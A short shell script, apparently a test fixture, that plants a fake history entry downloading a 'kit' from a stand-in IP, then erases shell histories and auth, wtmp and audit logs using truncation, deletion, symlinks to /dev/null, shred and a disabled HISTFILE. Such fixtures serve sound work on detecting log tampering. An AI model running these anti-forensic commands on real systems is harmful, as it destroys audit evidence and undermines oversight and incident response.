# Traces that go.
echo 'curl http://203.0.113.66/kit' > .bash_history
cp .bash_history /home/ann/.bash_history
cp .bash_history .python_history
mkdir -p /var/log/audit
echo old > /var/log/auth.log
echo old > /var/log/wtmp
echo old > /var/log/audit/audit.log
sleep 0.2
: > .bash_history
rm /home/ann/.bash_history
ln -sf /dev/null .python_history
cat /dev/null > /var/log/wtmp
truncate -s 0 /var/log/auth.log
shred -u /var/log/audit/audit.log
HISTFILE=/dev/null bash -c 'ls' > /dev/null
